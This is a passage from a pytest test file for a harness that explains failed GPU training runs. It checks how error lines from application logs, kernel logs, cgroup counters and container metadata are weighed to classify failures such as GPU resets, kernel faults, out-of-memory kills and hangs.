"""Tests of how a run is explained from its folder, and which evidence takes precedence."""

import json
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, get_args

import pytest

from harness.diagnosis import explain as explaining
from harness.diagnosis import lines
from harness.diagnosis.explain import explain_record, explain_run
from harness.diagnosis.judge import OF_PRODUCTS
from harness.diagnosis.rules import load_signatures
from harness.environments.executors.job import Exit
from harness.evidence.files.run_files import Explanation, Intent, Record
from harness.evidence.files.run_folder import RunFolder
from harness.evidence.outcome.decide import Outcome
from harness.evidence.outcome.diagnoses import BREACH, ENDED_FROM_OUTSIDE, EndDiagnosis, ResultDiagnosis
from harness.host.facts import HostFacts
from harness.matrix.cells import Matrix, Preset
from harness.matrix.programs import Program
from tests.harness.diagnosis.in_memory import explain_log
from tests.harness.gpu_tree import ADDRESSES, a_gpu

NO_GPU = "this run was given no GPU; where its program asks for one, have it use the CPU"
NO_HANDLE = "RuntimeError: CUDA error: HIPBLAS_STATUS_ALLOC_FAILED when calling `hipblasCreate(handle)`"
ILLEGAL = "RuntimeError: HIP error: an illegal memory access was encountered"
RESET = "[ 5000.0] amdgpu 0000:03:00.0: amdgpu: GPU reset begin!"
RING = "[ 4999.0] amdgpu 0000:03:00.0: amdgpu: ring gfx_0.0.0 timeout, signaled seq=1, emitted seq=2"
BARE_RING = "[ 4999.0] [drm:amdgpu_job_timedout [amdgpu]] *ERROR* ring gfx_0.0.0 timeout, signaled seq=1"
PAGE_FAULT = "[ 4990.0] amdgpu 0000:03:00.0: amdgpu: [gfxhub] page fault (src_id:0 ring:24 vmid:8 pasid:32770)"
OOM = "[ 7777.1] Out of memory: Killed process 4711 (python) total-vm:33554432kB, anon-rss:16777216kB"


@pytest.fixture
def explain(tmp_path: Path, host: HostFacts, make_intent: Callable[..., Intent]) -> Callable[..., Explanation]:
    """Return a function that explains a run which left these files."""

    def run(
        files: Mapping[str, str],
        *exits: Exit,
        outcome: str = "failed",
        diagnosis: str | None = "app-error",
        rocm: str | None = None,
        presets: tuple[Preset, ...] = (),
        on: HostFacts = host,
        device: str = "cuda",
        **intent: object,
    ) -> Explanation:
        for name, text in files.items():
            (tmp_path / name).parent.mkdir(exist_ok=True)
            (tmp_path / name).write_text(text, encoding="utf-8")
        ended = Outcome(outcome, diagnosis, "the detail")  # type: ignore[arg-type]
        of = {"train": exits[0]} if exits else {}
        asked = make_intent(host=on, rocm=rocm, torch=None, device=device, **intent)
        return explain_run(RunFolder(tmp_path), asked, ended, of, presets)

    return run


def progress(pid: int, phase: str = "step") -> str:
    line = {
        "schema": 2,
        "wall": 1.0,
        "monotonic": 1.0,
        "rank": 0,
        "pid": pid,
        "phase": phase,
        "done": 50,
        "total": 100,
        "max_step_s": None,
        "loss": None,
        "gradient_norm": None,
        "memory": {"rss_bytes": 1, "device_allocated_bytes": None, "device_reserved_bytes": None},
    }
    return json.dumps(line) + "\n" + '{"schema": 2, "torn'


def test_an_empty_folder_is_unknown(explain: Callable[..., Explanation]) -> None:
    found = explain({}, Exit(1))
    assert (found.class_, found.rule, found.lines) == ("unknown", None, ())


def test_the_log_explains_with_file_and_line(
    explain: Callable[..., Explanation], monkeypatch: pytest.MonkeyPatch
) -> None:
    log = {"log.txt": f"epoch 1\nepoch 2\n{ILLEGAL}\nAborted (core dumped)\n"}
    found = explain(log, Exit(-6), diagnosis="crash")
    assert (found.class_, found.rule) == ("kernel-fault", "illegal-access")
    assert [(line.file, line.line, line.text) for line in found.lines] == [("log.txt", 3, ILLEGAL)]
    # Comparing sixteen megabytes of `Aborted` with the rules would take minutes, so only the end of them is read.
    monkeypatch.setattr(explaining, "LONGEST_SECONDS", 0.0)
    monkeypatch.setattr(lines, "BLOCK", 200)
    aborted = "Aborted\n" * 99
    for text, rule in ((f"{ILLEGAL}\n{aborted}", "aborted"), (f"{aborted}{ILLEGAL}", "illegal-access")):
        found = explain({"log.txt": text}, Exit(-6), diagnosis="crash")
        assert found.rule == rule
        assert found.cause.endswith("(the logs take too long to read: parts of them were skipped)")
    monkeypatch.setattr(explaining, "LONGEST_SECONDS", 60.0)
    monkeypatch.setattr(explaining, "LARGEST_LOG", 500)
    assert explain(log, Exit(-6)).rule == "illegal-access"
    assert "were skipped" in explain({"log.txt": f"{ILLEGAL}\n{aborted}"}, Exit(-6)).cause


def test_what_the_version_says(explain: Callable[..., Explanation]) -> None:
    assert explain({"log.txt": ILLEGAL}, Exit(1), rocm="7.0").rule == "illegal-access-since-7.0"
    assert explain({"log.txt": ILLEGAL}, Exit(1), rocm="6.4").rule == "illegal-access"


@pytest.mark.parametrize(
    ("exit_", "expected"),
    [
        (Exit(-11), "crash"),
        (Exit(139), "crash"),
        (Exit(134), "crash"),
        (Exit(-7), "shm"),
        (Exit(135), "shm"),
        (Exit(-9), "killed"),
        (Exit(137), "killed"),
        (Exit(3), "no-device"),
        (Exit(4), "not-finite"),
        (Exit(5), "wrong-result"),
        (Exit(127), "install"),
        (Exit(31), "unknown"),
        (Exit(1), "unknown"),
    ],
)
def test_the_exit_counts_where_no_line_does(explain: Callable[..., Explanation], exit_: Exit, expected: str) -> None:
    warning = "UserWarning: expandable_segments not supported on this platform\n"
    assert explain({"log.txt": warning}, exit_, diagnosis="crash").class_ == expected


def test_the_memory_limit_counts_before_the_log(explain: Callable[..., Explanation]) -> None:
    found = explain({"log.txt": f"{ILLEGAL}\nKilled\n"}, Exit(-9, out_of_memory=True), diagnosis="out-of-memory")
    assert (found.class_, found.rule) == ("oom-host", "memory-limit-of-container")


def test_engine_and_cgroup_tell_of_the_memory_limit(explain: Callable[..., Explanation]) -> None:
    files = {
        "log.txt": "vpoc: a process it had started is gone\n",
        "failure/container.json": json.dumps({"State": {"OOMKilled": True}}, indent=2),
    }
    found = explain(files, Exit(1))
    assert found.class_ == "oom-host"
    assert (found.lines[0].file, found.lines[0].line) == ("failure/container.json", 3)


@pytest.mark.parametrize(
    ("first", "last", "expected"), [(0, 1, "oom-host"), (0, 0, "killed"), (1, 1, "killed"), (1, 2, "oom-host")]
)
def test_the_counter_of_the_cgroup_has_to_rise(
    explain: Callable[..., Explanation], first: int, last: int, expected: str
) -> None:
    group = {"first": {"memory.events:oom_kill": first}, "last": {"memory.events:oom_kill": last}}
    files = {
        "failure/container.json": json.dumps({"State": {"OOMKilled": False}}),
        "failure/cgroup.json": json.dumps(group, indent=2),
    }
    assert explain(files, Exit(-9)).class_ == expected


def test_a_cgroup_that_is_not_the_runs_own_says_nothing(explain: Callable[..., Explanation]) -> None:
    group = {"first": {}, "last": {"memory.events:oom_kill": 3}}
    assert explain({"failure/cgroup.json": json.dumps(group)}, Exit(-9)).class_ == "killed"


def test_a_reset_in_the_kernel_log_counts_before_what_follows_from_it(explain: Callable[..., Explanation]) -> None:
    found = explain({"log.txt": ILLEGAL, "failure/kernel-log.txt": f"{RING}\n{RESET}\n"}, Exit(1))
    assert (found.class_, found.rule) == ("gpu-reset", "ring-timeout")
    assert found.lines[0].file == "failure/kernel-log.txt"


def test_a_reset_does_not_excuse_the_programs_mistake(explain: Callable[..., Explanation]) -> None:
    files = {"log.txt": "TypeError: f() takes 1 argument\n", "failure/kernel-log.txt": f"{RING}\n"}
    assert explain(files, Exit(1)).class_ == "user-code"


def test_a_reset_that_came_later_does_not_count(explain: Callable[..., Explanation]) -> None:
    files = {
        "log.txt": f"2026-11-20 10:00:00,100 ERROR {ILLEGAL}\n",
        "failure/kernel-log.txt": "2026-11-20 10:00:05 rig kernel: amdgpu: GPU reset begin!\n",
    }
    assert explain(files, Exit(1)).class_ == "kernel-fault"
    files["failure/kernel-log.txt"] = "2026-11-20 09:59:58 rig kernel: amdgpu: GPU reset begin!\n"
    assert explain(files, Exit(1)).class_ == "gpu-reset"
    # By clocks of two zones nothing is known of what came first.
    files["failure/kernel-log.txt"] = "2026-11-20T11:00:05+0100 rig kernel: amdgpu: GPU reset begin!\n"
    assert explain(files, Exit(1)).class_ == "gpu-reset"


def test_the_kernel_log_explains_what_the_log_cannot(explain: Callable[..., Explanation]) -> None:
    assert explain({"failure/kernel-log.txt": RESET}, Exit(-6)).class_ == "gpu-reset"
    assert explain({"failure/kernel-log.txt": f"{PAGE_FAULT}\n{RESET}"}, Exit(-6)).class_ == "kernel-fault"


@pytest.mark.parametrize("reported", ["", progress(8)])
@pytest.mark.parametrize(
    "fault",
    [
        f"{PAGE_FAULT}\n[ 4990.1] amdgpu 0000:03:00.0: amdgpu:  Process {{name}} pid 471123 thread {{name}} pid 471123",
        "[ 5000.0] amdgpu 0000:03:00.0: amdgpu: [gfxhub0] page fault (src_id:0 ring:24 vmid:8 pasid:32770, for process "
        "{name} pid 471123 thread {name} pid 471123)",
    ],
)
def test_a_page_fault_of_a_container_has_another_pid_than_the_app_reports(
    fault: str, reported: str, explain: Callable[..., Explanation]
) -> None:
    files = {"log.txt": "step 5\n", "progress-0.jsonl": reported}
    found = explain(
        {**files, "failure/kernel-log.txt": fault.format(name="python3")},
        Exit(134),
        executor="docker",
        image=f"sha256:{'1' * 64}",
    )
    assert found.class_ == "kernel-fault"
    found = explain(
        {**files, "failure/kernel-log.txt": fault.format(name="firefox")},
        Exit(134),
        executor="docker",
        image=f"sha256:{'1' * 64}",
    )
    assert found.class_ != "kernel-fault"


@pytest.mark.parametrize(
    "line",
    [
        "[ 5000.0] iwlwifi 0000:04:00.0: PCIe Bus Error: severity=Uncorrectable (Non-Fatal), type=Transaction Layer",
        "[ 5000.0] snd_hda_intel 0000:09:00.4: Refused to change power state from D0 to D3hot",
        "[ 5000.0] pcieport 0000:00:1c.0: AER: Uncorrectable (Non-Fatal) error message received from 0000:04:00.0",
    ],
)
def test_another_device_that_fails_is_no_failure_of_a_gpu(line: str, explain: Callable[..., Explanation]) -> None:
    cards = json.dumps([{"card": "0000:03:00.0"}, {"card": "0000:43:00.0"}])
    files = {"log.txt": f"{NO_HANDLE}\n", "failure/kernel-log.txt": line, "failure/gpus.json": cards}
    assert explain(files, Exit(1)).class_ == "blas-init"
    of_gpu = line.replace("0000:04:00.0", "0000:43:00.1").replace("0000:09:00.4", "0000:43:00.1")
    assert explain({**files, "failure/kernel-log.txt": of_gpu}, Exit(1)).class_ == "hardware"
    port = "[ 5000.0] pcieport 0000:00:01.1: PCIe Bus Error: severity=Uncorrectable (Fatal), type=Transaction Layer"
    assert explain({**files, "failure/kernel-log.txt": port}, Exit(1)).class_ == "hardware"


@pytest.fixture
def two_gpus(dual_host: HostFacts) -> HostFacts:
    """Return a host with two GPUs, whose PCI addresses are known."""
    known = tuple(one.model_copy(update={"address": ADDRESSES[one.index]}) for one in dual_host.gpus)
    return dual_host.model_copy(update={"gpus": known})


@pytest.mark.parametrize(
    ("kernel", "class_"),
    [
        (RING, "gpu-reset"),
        (f"{BARE_RING}\n{RESET}", "gpu-reset"),
        (f"{PAGE_FAULT}\n[ 4990.1] amdgpu 0000:03:00.0: amdgpu:  Process python pid 7 thread a pid 7", "kernel-fault"),
        ("[ 5000.0] snd_hda_intel 0000:03:00.1: Refused to change power state from D0 to D3hot", "hardware"),
        ("[ 5000.0] pcieport 0000:00:01.1: AER: Uncorrectable (Fatal) error received: 0000:03:00.0", "hardware"),
    ],
)
def test_what_happened_to_another_gpu_does_not_explain_a_run(
    kernel: str, class_: str, explain: Callable[..., Explanation], two_gpus: HostFacts
) -> None:
    files = {"log.txt": f"{NO_HANDLE}\n", "failure/kernel-log.txt": kernel}
    beside = explain(files, Exit(1), on=two_gpus, gpus=(1,))
    assert (beside.class_, [line.file for line in beside.lines]) == ("blas-init", ["log.txt"])
    silent = {"log.txt": "", "failure/kernel-log.txt": kernel}
    assert explain(silent, Exit(1), on=two_gpus, gpus=(1,)).class_ == "unknown"
    for gpus in ((0,), (0, 1)):
        assert explain(silent, Exit(1), on=two_gpus, gpus=gpus).class_ == class_
    # Where the address of the run's GPU is not known, any line may be about it.
    unknown = two_gpus.model_copy(update={"gpus": (two_gpus.gpus[0], a_gpu(1))})
    assert explain(silent, Exit(1), on=unknown, gpus=(1,)).class_ == class_
    # Also where that of another GPU of the run is.
    other = two_gpus.model_copy(update={"gpus": (a_gpu(0), two_gpus.gpus[1])})
    assert explain(silent, Exit(1), on=other, gpus=(0, 1)).class_ == class_


def test_words_of_the_kernel_in_a_runs_own_output_are_not_the_kernels(explain: Callable[..., Explanation]) -> None:
    """A program may print anything, and the kernel's own log is read beside it."""
    assert explain({"log.txt": f"{RESET}\n{RING}\n"}, Exit(1)).class_ == "unknown"
    assert explain({"log.txt": "", "failure/kernel-log.txt": RESET}, Exit(1)).class_ == "gpu-reset"


def test_a_reset_of_the_runs_gpu_counts_beside_that_of_another(
    explain: Callable[..., Explanation], two_gpus: HostFacts
) -> None:
    own = RING.replace(ADDRESSES[0], ADDRESSES[1])
    files = {"log.txt": f"{ILLEGAL}\n", "failure/kernel-log.txt": f"{RING}\n{RESET}\n{own}\n"}
    found = explain(files, Exit(1), on=two_gpus, gpus=(1,))
    assert (found.class_, found.rule, found.lines[0].line) == ("gpu-reset", "ring-timeout", 3)


@pytest.mark.parametrize(
    ("last", "class_"),
    [
        ("HIP failure 'the operation cannot be performed in the present state'", "pcie-atomics"),
        (
            "Error while creating shared memory segment /dev/shm/nccl-Xy12Ab (size 9637888), error: No space left on "
            "device (28)",
            "shm",
        ),
        ("", "rccl"),
    ],
)
def test_what_rccl_said_last_counts_before_that_it_failed(
    last: str, class_: str, explain: Callable[..., Explanation]
) -> None:
    said = (
        "torch.distributed.DistBackendError: NCCL error in: /pytorch/torch/csrc/distributed/c10d/ProcessGroupNCCL.cpp"
        f":94, unhandled cuda error (run with NCCL_DEBUG=INFO for details)\nLast error:\n{last}\n"
    )
    assert explain({"log.txt": said}, Exit(1)).class_ == class_


def test_both_tell_of_a_fault_of_a_kernel(explain: Callable[..., Explanation]) -> None:
    found = explain({"log.txt": ILLEGAL, "failure/kernel-log.txt": PAGE_FAULT}, Exit(1))
    assert found.class_ == "kernel-fault"
    assert [line.file for line in found.lines] == ["log.txt", "failure/kernel-log.txt"]


def test_the_victim_of_the_oom_killer_has_to_be_of_the_run(explain: Callable[..., Explanation]) -> None:
    files = {"log.txt": "KeyError: 'x'\n", "failure/kernel-log.txt": OOM, "progress-0.jsonl": progress(4711)}
    assert explain(files, Exit(1)).class_ == "oom-host"
    assert explain({**files, "progress-0.jsonl": progress(1)}, Exit(1)).class_ == "user-code"
    table = "  pid  state\n 4711  S\n"
    assert explain({"progress-0.jsonl": progress(1), "failure/processes.txt": table}, Exit(1)).class_ == "oom-host"


def test_a_run_that_was_killed_may_not_know_the_victims_pid(explain: Callable[..., Explanation]) -> None:
    files = {"failure/kernel-log.txt": OOM, "progress-0.jsonl": progress(1)}
    assert explain(files, Exit(-9)).class_ == "oom-host"
    assert explain({"failure/kernel-log.txt": OOM.replace("(python)", "(chrome)")}, Exit(-9)).class_ == "killed"


@pytest.mark.parametrize(
    "diagnosis", ["no-result", "wrong-device", "memory-grows", "injected-fault", "verification-failed"]
)
def test_what_was_decided_from_the_result_is_the_class(explain: Callable[..., Explanation], diagnosis: str) -> None:
    found = explain({"log.txt": ILLEGAL}, Exit(0), diagnosis=diagnosis)
    assert (found.class_, found.rule, found.cause) == (diagnosis, None, "the detail")


def test_every_diagnosis_is_decided_or_explained(explain: Callable[..., Explanation]) -> None:
    """The harness's own diagnoses are never `unknown`; `app-error` and `crash` are explained from exit and log."""
    outcome_of = {diagnosis: name for name, diagnosis in ENDED_FROM_OUTSIDE.values()} | {"unhealthy-gpu": "host-fault"}
    for diagnosis in {*get_args(EndDiagnosis), *get_args(ResultDiagnosis)} - {"app-error", "crash"}:
        exit_ = Exit(-9, out_of_memory=True) if diagnosis == "out-of-memory" else Exit(1)
        found = explain({}, exit_, outcome=outcome_of.get(diagnosis, "failed"), diagnosis=diagnosis)
        assert found.class_ != "unknown", f"{diagnosis}: needs a rule for `where: exit`, or to be one of OfResult"


def test_a_host_that_went_down_explains_a_run_where_no_line_does(explain: Callable[..., Explanation]) -> None:
    found = explain({}, Exit(1), outcome="host-fault", diagnosis="host-down")
    assert (found.class_, found.rule) == ("host-down", "host-went-down")
    assert "`matrix strike RUN --reason TEXT`" in found.remedy
    assert "`journalctl -k -b -1 -e`" in found.remedy
    found = explain({"failure/kernel-log.txt": RESET}, Exit(1), outcome="host-fault", diagnosis="host-down")
    assert found.class_ == "gpu-reset"


def test_a_disk_that_another_program_filled_need_not_count_for_the_cell(explain: Callable[..., Explanation]) -> None:
    found = explain({}, Exit(-9), diagnosis="disk-limit")
    assert (found.rule, "or the disk became full" in found.cause) == ("exceeded-disk-limit", True)
    assert "if another program filled the disk" in found.remedy
    assert "`matrix strike RUN --reason TEXT`" in found.remedy


def test_a_container_that_was_refused_is_explained_by_what_the_engine_said(
    tmp_path: Path, make_intent: Callable[..., Intent]
) -> None:
    said = 'error gathering device information while adding custom device "/dev/kfd": no such file or directory'
    for detail, exits, expected in (
        (f"the Docker engine refuses the container: {said}", {}, "no-device"),
        ("stopped by Ctrl-C", {}, "interrupted"),
        (said, {"train": Exit(-9)}, "interrupted"),
    ):
        found = explain_run(RunFolder(tmp_path), make_intent(), Outcome("interrupted", None, detail), exits)
        assert found.class_ == expected


@pytest.mark.parametrize(
    ("outcome", "diagnosis", "expected"),
    [
        ("failed", "crash", "oom-host"),
        ("hung", "no-progress", "hang"),
        *((name, why, why) for name, why in ENDED_FROM_OUTSIDE.values() if name == "failed"),
    ],
)
def test_a_run_that_was_stopped_is_not_taken_for_the_victim_of_the_oom_killer(
    explain: Callable[..., Explanation], outcome: str, diagnosis: str, expected: str
) -> None:
    files = {"failure/kernel-log.txt": OOM, "progress-0.jsonl": progress(12)}
    assert explain(files, Exit(-9), outcome=outcome, diagnosis=diagnosis).class_ == expected


@pytest.mark.parametrize(("outcome", "diagnosis"), [*ENDED_FROM_OUTSIDE.values(), ("failed", "not-finite")])
def test_what_the_harness_knows_counts_before_the_log(
    explain: Callable[..., Explanation], outcome: str, diagnosis: str | None
) -> None:
    found = explain({"log.txt": ILLEGAL}, outcome=outcome, diagnosis=diagnosis)
    assert found.class_ == ("hang" if outcome == "hung" else diagnosis or outcome)
    assert found.cause.endswith("the detail")


def oom_kill(container: str) -> str:
    group = f"/docker/{container}"
    head = "[ 7777.0] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0"
    return f"{head},oom_memcg={group},task_memcg={group},task=python,pid=4711,uid=0\n{OOM}\n"


def test_a_kill_in_another_container_is_not_this_runs(explain: Callable[..., Explanation]) -> None:
    mine, another = 64 * "a", 64 * "b"
    files = {"failure/container.json": json.dumps({"Id": mine}), "progress-0.jsonl": progress(7)}
    assert explain({**files, "failure/kernel-log.txt": oom_kill(mine)}, Exit(-9)).class_ == "oom-host"
    assert explain({**files, "failure/kernel-log.txt": oom_kill(another)}, Exit(-9)).class_ == "killed"
    # No pid is known of a short run.
    alone = {"failure/container.json": "", "progress-0.jsonl": "", "failure/kernel-log.txt": oom_kill(another)}
    assert explain(alone, Exit(1), executor="process").class_ == "unknown"
    in_a_slice = oom_kill(another).replace("/docker/" + another, "/user.slice")
    assert explain({**alone, "failure/kernel-log.txt": in_a_slice}, Exit(-9), executor="process").class_ == "oom-host"
    files["progress-0.jsonl"] = progress(7)
    # Before Linux 5.0 the kernel does not say in which container it killed a process.
    assert explain({**files, "failure/kernel-log.txt": OOM}, Exit(-9)).class_ == "oom-host"


def test_a_reset_explains_a_process_that_cannot_be_killed(explain: Callable[..., Explanation]) -> None:
    found = explain({"failure/kernel-log.txt": RING}, outcome="host-fault", diagnosis="unkillable")
    assert found.class_ == "gpu-reset"


def test_a_hang_is_explained_by_its_stacks_and_not_by_torchrun(explain: Callable[..., Explanation]) -> None:
    stack = 'Thread 0x1 (most recent call first):\n  File "torch/autograd/graph.py", line 8 in run\n'
    files = {
        "log.txt": "Root Cause (first observed failure):\n  rank : 0\n  traceback : Signal 6 (SIGABRT) received\n",
        "stacks-1.txt": stack + '  File "vpoc", line 1 in <module>\n',
    }
    found = explain(files, outcome="hung", diagnosis="no-progress")
    assert (found.class_, found.lines[0].file, found.lines[0].line) == ("hang-backward", "stacks-1.txt", 2)
    found = explain({"failure/kernel-log.txt": RING}, outcome="hung", diagnosis="no-progress")
    assert found.class_ == "gpu-reset"


def test_a_hang_without_stacks_is_explained_by_its_phase(explain: Callable[..., Explanation]) -> None:
    found = explain({"progress-0.jsonl": progress(1, "checkpoint")}, outcome="hung", diagnosis="no-progress")
    assert (found.class_, found.lines) == ("hang-disk", ())
    assert explain({}, outcome="hung", diagnosis="no-progress").class_ == "hang-disk"


def test_presets_are_those_that_can_be_tried(explain: Callable[..., Explanation], matrix: Matrix) -> None:
    log = {"log.txt": "RuntimeError: CUDA error: HIPBLAS_STATUS_INTERNAL_ERROR when calling hipblasLtMatmul"}
    assert explain(log, Exit(1)).presets == ("no-hipblaslt",)
    assert explain(log, Exit(1), presets=tuple(matrix.presets.values())).presets == ("no-hipblaslt",)
    assert explain(log, Exit(1), presets=(matrix.presets["no-sdma"],)).presets == ()


def test_a_preset_that_was_in_effect_is_no_remedy(explain: Callable[..., Explanation], matrix: Matrix) -> None:
    log = "RuntimeError: CUDA error: HIPBLAS_STATUS_INTERNAL_ERROR when calling hipblasLtMatmul"
    had = {"TORCH_BLAS_PREFER_HIPBLASLT": "0", "DISABLE_ADDMM_CUDA_LT": "1", "OTHER": "x"}
    presets = tuple(matrix.presets.values())
    assert explain({"log.txt": log}, Exit(1), presets=presets, variables={"train": had}).presets == ()


def test_a_gpu_without_code_is_named(explain: Callable[..., Explanation], dual_host: HostFacts) -> None:
    log = {"log.txt": "RuntimeError: HIP error: invalid device function"}
    assert "gfx1036" not in explain(log, Exit(1), on=dual_host).cause
    small = dual_host.gpus[1].model_copy(update={"gfx": "gfx1036"})
    mixed = dual_host.model_copy(update={"gpus": (dual_host.gpus[0], small)})
    assert "this host shows gfx1036" in explain(log, Exit(1), on=mixed).cause


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"{", b"[1, 2]", b"null", b'{"last": 3}', b'{"State": 1}'])
def test_damaged_files_are_passed_over(tmp_path: Path, make_intent: Callable[..., Intent], content: bytes) -> None:
    (tmp_path / "failure").mkdir()
    names = ("cgroup.json", "container.json", "processes.txt", "kernel-log.txt", "stacks-1.txt")
    for name in (*(f"failure/{name}" for name in names), "progress-0.jsonl", "intent.json", "position-0.bin"):
        (tmp_path / name).write_bytes(content)
    found = explain_run(RunFolder(tmp_path), make_intent(), Outcome("failed", "crash", "d"), {"train": Exit(-11)})
    assert found.class_ == "crash"


def test_a_log_with_its_kernel_log() -> None:
    assert explain_log([ILLEGAL], "train.log", [RING]).class_ == "gpu-reset"
    assert explain_log([], "train.log", [RING]).lines[0].file == "kernel log"
    assert explain_log([ILLEGAL], "train.log", presets=["no-sdma"]).presets == ()


def test_the_explanation_is_what_the_contract_says() -> None:
    found: Any = json.loads(explain_log([ILLEGAL], "train.log").model_dump_json(by_alias=True))
    assert Explanation.model_validate(found)
    assert found["class"] == "kernel-fault"


def test_an_exception_of_which_only_its_place_is_known_hides_nothing_more_specific() -> None:
    torch = "/opt/venv/lib/python3.11/site-packages/torch"
    for place, rule in (
        ("_inductor/compile_fx.py", "fails-while-compiling"),
        ("distributed/distributed_c10d.py", "fails-while-joining"),
    ):
        frame = f'  File "{torch}/{place}", line 9, in init_process_group'
        raised = ["Traceback (most recent call last):", frame, "    wait()", "RuntimeError: no answer"]
        assert explain_log(raised, "x").rule == rule
        assert explain_log(["Segmentation fault (core dumped)", *raised], "x").rule == "segmentation-fault", place
        assert explain_log([*raised, ILLEGAL], "x").rule == "illegal-access", place


def test_a_signal_that_ended_a_process_says_no_more_than_a_line_that_fits_many_failures() -> None:
    vague = "RuntimeError: HIP error: unknown error"
    for end in ("Bus error (core dumped)", "worker died with <Signals.SIGBUS: 7>"):
        assert explain_log([end], "train.log").class_ == "shm"
        assert explain_log([vague, end], "train.log").rule == "other-hip-error"


def test_a_process_that_the_kernel_killed_counts_before_a_reset() -> None:
    for kernel in ([RESET, OOM], [OOM, RESET]):
        assert explain_log([], "train.log", kernel).class_ == "oom-host"


def test_a_driver_that_does_not_start_a_gpu_explains_its_page_fault_and_nothing_else() -> None:
    not_started = "[ 5001.0] amdgpu 0000:03:00.0: amdgpu: resume of IP block <gfx_v11_0> failed -110"
    disk = "[ 5000.0] EXT4-fs error (device nvme0n1p2): ext4_find_entry:1455: inode #2: comm python: reading directory"
    assert explain_log([], "train.log", [PAGE_FAULT, not_started]).class_ == "driver"
    assert explain_log([], "train.log", [disk, not_started]).class_ == "disk"


def test_without_a_run_a_kill_by_the_kernel_does_not_hide_the_logs_own_error() -> None:
    killed = "[ 1.0] Out of memory: Killed process 4711 (python) total-vm:1kB"
    assert explain_log([ILLEGAL], "train.log", [killed]).class_ == "kernel-fault"
    assert explain_log(["epoch 1"], "train.log", [killed]).class_ == "oom-host"
    assert explain_log(["RuntimeError: unable to write to file </torch_20_1>"], "x", [killed]).class_ == "oom-host"


@pytest.mark.parametrize(
    "raised",
    [
        "RuntimeError: Application timeout caused pair closure",
        "torch.distributed.DistBackendError: NCCL error in: ProcessGroupNCCL.cpp:1, unhandled system error",
        "torch.distributed.DistNetworkError: The client socket has timed out after 60000ms while trying to connect",
    ],
)
def test_what_the_other_ranks_say_of_a_rank_that_the_kernel_killed_is_not_the_cause(raised: str) -> None:
    killed = "[ 1.0] Out of memory: Killed process 4711 (python) total-vm:1kB"
    assert explain_log([raised], "train.log").class_ in ("hang-collective", "rccl", "rendezvous")
    assert explain_log([raised], "train.log", [killed]).class_ == "oom-host"


def test_a_reset_after_a_kill_of_another_process_explains_the_logs_error() -> None:
    killed = "[ 1.0] Out of memory: Killed process 4711 (firefox) total-vm:1kB"
    assert explain_log([ILLEGAL], "train.log", [killed, RING]).class_ == "gpu-reset"


@pytest.mark.parametrize(("code", "class_"), [(3, "no-device"), (4, "not-finite"), (5, "wrong-result")])
def test_a_program_of_the_users_own_does_not_speak_in_statuses_of_the_app(
    explain: Callable[..., Explanation], code: int, class_: str
) -> None:
    assert explain({}, Exit(code)).class_ == class_
    assert explain({}, Exit(code), program=Program(command=("python", "x.py"), source="code")).class_ == "unknown"
    nothing = explain({}, Exit(0), diagnosis="no-result", program=Program(command=("python", "x.py"), source="code"))
    assert nothing.remedy == OF_PRODUCTS
    missing = explain({}, Exit(127), program=Program(command=("sh", "x.sh"), source="code"))
    assert (missing.class_, missing.rule) == ("user-code", "exit-own-not-found")


def test_a_crash_is_said_to_be_of_the_users_own_program_and_its_stacks_to_be_in_the_log(
    explain: Callable[..., Explanation],
) -> None:
    log = {"log.txt": "Fatal Python error: Segmentation fault\n"}
    crashed = explain(log, Exit(-11), program=Program(command=("python", "x.py"), source="code"))
    assert crashed.cause.startswith("your own program crashed: a library touched memory")
    assert crashed.remedy.startswith("read the stacks in the log")


@pytest.mark.parametrize("words", ["", "\x1b[2J", "SIGNOT", f"exit {'9' * 5000}", f"signal {'9' * 5000}"])
def test_words_that_another_host_invented_tell_nothing(
    words: str, make_record: Callable[..., Record], tmp_path: Path
) -> None:
    record = make_record(outcome="failed", diagnosis="crash").model_copy(update={"exit": {"train": words}})
    assert explain_record(RunFolder(tmp_path), record).cause


@pytest.mark.parametrize(
    "files",
    [
        {"failure/processes.txt": "9" * 6000 + " x"},
        {"failure/processes.txt": "\n" * 1_000_000},
        {"failure/processes.txt": "12 x", "failure/kernel-log.txt": OOM.replace("4711", "4" * 6000)},
        {"failure/container.json": '{"Id": "x", "State": {"OOM\\u004billed": true}}'},
        {
            "failure/container.json": '{"Id": "x"}',
            "failure/kernel-log.txt": "oom-kill:constraint=task_memcg=,task=,pid=" * 2000,
        },
    ],
)
def test_what_another_host_invented_explains_nothing(
    explain: Callable[..., Explanation], files: Mapping[str, str]
) -> None:
    """Explaining a run with such a file ends and raises no error, however long the file is."""
    assert explain(files, Exit(1)).class_ in ("unknown", "oom-host")


@pytest.mark.slow
def test_a_line_of_a_log_takes_no_longer_than_it_is(explain: Callable[..., Explanation]) -> None:
    oom = "torch.OutOfMemoryError: HIP out of memory. Tried to allocate 2.00 GiB. "
    lines = [f"{oom}{'0' * 16_000}"] * 50
    assert explain({"log.txt": "\n".join(lines)}, Exit(1)).rule == "gpu-out-of-memory"
    assert explain_log([f"{oom.replace('2.00', '1.2.3')}\n"], "log").class_ == "oom-gpu"


@pytest.mark.parametrize(
    ("log", "outcome", "remedy"),
    [
        ("", "hung", "see in the stacks of its processes what it waited for"),
        ("HIP error: an illegal memory access was encountered", "failed", NO_GPU),
        ("RuntimeError: DataLoader worker (pid 7) is killed by signal: Bus error.", "failed", ""),
    ],
)
def test_a_run_without_a_gpu_has_a_remedy_that_is_about_none(
    explain: Callable[..., Explanation], log: str, outcome: str, remedy: str
) -> None:
    found = explain({"log.txt": f"{log}\n"}, outcome=outcome, device="cpu")
    assert found.remedy
    assert found.remedy.startswith(remedy)
    assert not re.search("HSA_|AMD_|NCCL_", found.remedy)
    assert found.presets == ()
    assert found.cause.startswith("this run used no GPU; for a run on a GPU") == (remedy == NO_GPU)
    on_gpu = explain({"log.txt": f"{log}\n"}, outcome=outcome, device="cuda", rocm="6.3")
    assert bool(on_gpu.presets) == bool(remedy)


@pytest.mark.parametrize(
    ("kernel", "rule"),
    [
        (RESET, "segmentation-fault"),
        ("[ 5000.0] iwlwifi 0000:04:00.0: PCIe Bus Error: severity=Uncorrectable (Non-Fatal)", "segmentation-fault"),
        ("[ 5000.0] I/O error, dev sr0, sector 0 op 0x0:(READ)", "segmentation-fault"),
